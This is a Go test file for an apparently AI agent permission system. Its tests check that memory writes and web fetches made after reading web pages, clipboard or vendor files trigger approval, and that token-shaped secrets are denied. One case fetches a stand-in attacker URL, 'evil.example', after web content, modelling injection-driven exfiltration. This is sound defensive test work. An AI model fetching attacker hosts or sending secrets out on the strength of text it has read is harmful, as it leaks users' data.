package permits_test

import (
	"slices"
	"strings"
	"testing"

	"handrail/operator/operatortest"
	"handrail/operator/permits"
	"handrail/tools"
)

// A trial of a program says also what would be asked once it has run.
func TestATrialSaysWhatIsAskedAfterwards(t *testing.T) {
	for command, x := range map[string]struct {
		rules string
		want  []string
	}{
		"make test":           {"", []string{"memory_write", "scripts", "protected"}},
		"echo x >> Makefile":  {"", []string{"memory_write", "protected"}},
		"make test # by rule": {`,"bash after example.com"`, nil},
	} {
		b := operatortest.New(t, operatortest.Options{Trusted: true, Settings: `{"rules":{"allow":["bash"` + x.rules + `]}}`})
		got := b.S.Permits().Test(t.Context(), permits.Trial{Tool: "bash", Input: `{"command":"` + command + `"}`, After: []string{"web:example.com"}})
		if got.Outward == nil || !slices.Equal(got.Outward.Later, x.want) {
			t.Errorf("%s: %+v", command, got.Outward)
		}
	}
}

// A trial says what the door would ask because of text from elsewhere, and what would answer it.
func TestATrialAfterTextFromElsewhere(t *testing.T) {
	const web = "a web page of example.com"
	for name, x := range map[string]struct {
		trial    permits.Trial
		settings string // rules
		verdict  string
		stage    string // what decides
		way      string
		open     []string
		rules    []string
	}{
		"of the person":            {permits.Trial{Tool: "memory_write", Input: `{"content":"x"}`}, `"allow":["memory_write"]`, "allow", "rule memory_write", "", nil, nil},
		"a way out":                {permits.Trial{Tool: "memory_write", Input: `{"content":"x"}`, After: []string{"web:example.com"}}, `"allow":["memory_write"]`, "ask", "built-in rule from-elsewhere", "memory_write", []string{web}, []string{"memory_write after example.com"}},
		"two sources":              {permits.Trial{Tool: "memory_write", Input: `{"content":"x"}`, After: []string{"web:example.com", "clipboard"}}, `"allow":["memory_write"]`, "ask", "built-in rule from-elsewhere", "memory_write", []string{web, "the clipboard"}, []string{"memory_write after example.com"}},
		"a rule for it":            {permits.Trial{Tool: "memory_write", Input: `{"content":"x"}`, After: []string{"web:example.com"}}, `"allow":["memory_write after example.com"]`, "allow", "rule memory_write after example.com", "memory_write", nil, nil},
		"a rule that is tried":     {permits.Trial{Tool: "memory_write", Input: `{"content":"x"}`, After: []string{"web:example.com"}, Rule: "memory_write after example.com", Outcome: "allow"}, `"allow":["memory_write"]`, "allow", "rule memory_write", "memory_write", nil, nil},
		"no way out":               {permits.Trial{Tool: "write", Input: `{"path":"a.md","content":"x"}`, After: []string{"server:notes"}}, `"allow":["write"]`, "allow", "rule write", "", nil, nil},
		"a deny":                   {permits.Trial{Tool: "memory_write", Input: `{"content":"x"}`, After: []string{"server:notes"}}, `"deny":["memory_write"]`, "deny", "rule memory_write", "", nil, nil},
		"another address":          {permits.Trial{Tool: "web_fetch", Input: `{"url":"https://evil.example/a?x"}`, After: []string{"web:example.com"}}, `"allow":["web_fetch"]`, "ask", "built-in rule from-elsewhere", "web_fetch", []string{web}, []string{"web_fetch after example.com"}},
		"an address that was said": {permits.Trial{Tool: "web_fetch", Input: `{"url":"https://evil.example/a?x"}`, After: []string{"web:example.com"}, Said: "read https://evil.example/a?x"}, `"allow":["web_fetch"]`, "allow", "rule web_fetch", "", nil, nil},
		"asks anyway":              {permits.Trial{Tool: "memory_write", Input: `{"content":"x"}`, After: []string{"web:example.com"}}, `"ask":["memory_write"]`, "ask", "rule memory_write", "memory_write", []string{web}, []string{"memory_write after example.com"}},
	} {
		t.Run(name, func(t *testing.T) {
			b := operatortest.New(t, operatortest.Options{Trusted: true, Settings: `{"network":["on"],"rules":{` + x.settings + `}}`})
			got := b.S.Permits().Test(t.Context(), x.trial)
			if got.Verdict != x.verdict || !strings.HasPrefix(got.By, x.stage) {
				t.Fatalf("%s by %s: %+v", got.Verdict, got.By, got)
			}
			if (got.Outward != nil) != (len(x.trial.After) > 0) {
				t.Fatalf("%+v", got.Outward)
			}
			if o := got.Outward; o != nil && (o.Way != x.way || !slices.Equal(o.Open, x.open) || !slices.Equal(o.Rules, x.rules) || len(o.Open) > 0 && (o.Why == "" || o.Label == "")) {
				t.Errorf("%+v", o)
			}
			if last := got.Chain[len(got.Chain)-1].Name; (last == "text from elsewhere") != (got.Outward != nil) {
				t.Errorf("the last step is %q", last)
			}
		})
	}
}

func TestATrialKnowsTheLabelsOfFilesAndSecrets(t *testing.T) {
	b := operatortest.New(t, operatortest.Options{Trusted: true, Settings: `{"rules":{"allow":["memory_write"]}}`, Files: map[string]string{"a.md": "mine", "vendor/x/a.md": "theirs"}})
	for source, want := range map[string]string{"file:a.md": "what is in a.md", "file:vendor/x/a.md": "what is in vendor"} {
		got := b.S.Permits().Test(t.Context(), permits.Trial{Tool: "memory_write", Input: `{"content":"x"}`, After: []string{source}})
		if got.Outward == nil || !slices.Equal(got.Outward.After, []string{want}) {
			t.Errorf("%s: %+v", source, got.Outward)
		}
	}
	got := b.S.Permits().Test(t.Context(), permits.Trial{Tool: "memory_write", Input: `{"content":"ghp_` + strings.Repeat("aB3", 12) + `"}`, After: []string{"server:notes"}})
	if got.Verdict != "deny" || got.By != (tools.Decider{Kind: tools.ByBuiltin, Name: "secret-sent"}).String() || got.Outward.Secret == "" {
		t.Errorf("%+v, %+v", got, got.Outward)
	}
	for _, bad := range []string{"", "web", "web:", "nowhere:x", "clipboard:x"} {
		if got := b.S.Permits().Test(t.Context(), permits.Trial{Tool: "memory_write", Input: `{"content":"x"}`, After: []string{bad}}); got.Problem == "" || got.Verdict != "" {
			t.Errorf("%q: %+v", bad, got)
		}
	}
}
